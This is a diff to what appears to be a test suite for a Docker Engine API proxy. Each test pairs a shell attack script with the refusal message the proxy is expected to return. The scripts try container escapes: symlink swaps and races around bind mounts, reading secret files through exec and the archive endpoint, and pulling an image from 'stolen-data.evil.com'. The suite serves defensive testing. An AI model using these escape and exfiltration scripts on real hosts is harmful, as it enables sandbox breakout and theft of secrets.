@@ -422,7 +422,7 @@ const docker: Attempt[] = [
   {
     name: "binding a link to the outside",
     script: `made "$(create "{\\"Binds\\":[\\"$WORK/link:/x\\"]}" | tee /dev/stderr)"`,
-    says: /symbolic link/,
+    says: /mount the whole workspace/,
   },
   {
     name: "binding by dots",
@@ -568,16 +568,16 @@ const docker: Attempt[] = [
     says: /cannot be copied/,
   },
   {
-    name: "a link put in place before the start",
+    name: "a part of the workspace, to be swapped for a link before it is mounted",
     script:
-      `mkdir swap; id=$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); rmdir swap; ln -s "$OUTSIDE" swap; docker_ POST /containers/$id/start; docker_ GET "/containers/$id/archive?path=/x/secret" '' --output - ; docker_ DELETE "/containers/$id?force=1"; rm swap`,
-    says: /symbolic link/,
+      `mkdir swap; made "$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | tee /dev/stderr)"; made "$(create "{\\"Mounts\\":[{\\"Type\\":\\"bind\\",\\"Source\\":\\"$WORK/src\\",\\"Target\\":\\"/x\\"}]}" | tee /dev/stderr)"`,
+    says: /(mount the whole workspace[^]*){2}/,
   },
   {
-    name: "a link put in place before something is copied out",
+    name: "links in the workspace, followed by a container with it",
     script:
-      `mkdir swap; id=$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); rmdir swap; ln -s "$OUTSIDE" swap; docker_ GET "/containers/$id/archive?path=/x/secret" '' --output - | tr -d '\\0'; docker_ DELETE "/containers/$id?force=1"; rm swap`,
-    says: /nothing can be copied out/,
+      `id=$(create "{\\"Binds\\":[\\"$WORK:/w\\"]}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/start; e=$(docker_ POST /containers/$id/exec '{"Cmd":["cat","/w/link/secret"],"AttachStdout":true,"AttachStderr":true}' | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /exec/$e/start '{"Detach":false}' --output - | tr -d '\\0\\1\\2'; docker_ GET "/containers/$id/archive?path=/w/link/secret" '' --output - | tr -d '\\0'; docker_ DELETE "/containers/$id?force=1"`,
+    says: /No such file[^]*(no such|could not find)/i,
   },
   {
     name: "a build that has the Engine fetch from the host",
@@ -590,12 +590,6 @@ const docker: Attempt[] = [
     script:
       `printf 'FROM 127.0.0.1:%s/x\\n' "$HOST_PORT" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST /build '' -H 'Content-Type: application/x-tar' --data-binary @-; docker_ POST "/images/create?fromImage=127.0.0.1:$HOST_PORT/x&tag=1"; docker_ POST "/images/create?fromImage=stolen-data.evil.com/x&tag=1"`,
     says: /(registry [^ ]+ is blocked[^]*){3}/,
-  },
-  {
-    name: "a link put in place while it starts",
-    script:
-      `mkdir race; id=$(create "{\\"Binds\\":[\\"$WORK/race:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); (while [ ! -e /tmp/stop ]; do mv -T race r1; ln -sfn "$OUTSIDE" race; rm -f race; mv -T r1 race; done 2>/dev/null) & for i in $(seq 12); do docker_ POST /containers/$id/start && docker_ GET /containers/$id/json | grep -o '"Running":true'; e=$(docker_ POST /containers/$id/exec '{"Cmd":["cat","/x/secret"],"AttachStdout":true}' | grep -o '[0-9a-f]\\{64\\}'); [ "$e" ] && docker_ POST /exec/$e/start '{"Detach":false}' --output - | tr -d '\\0\\1'; docker_ POST "/containers/$id/kill" >/dev/null; done; touch /tmp/stop; wait; docker_ DELETE "/containers/$id?force=1"; echo raced`,
-    says: /raced/,
   },
   {
     name: "plugins, swarm, secrets, BuildKit",
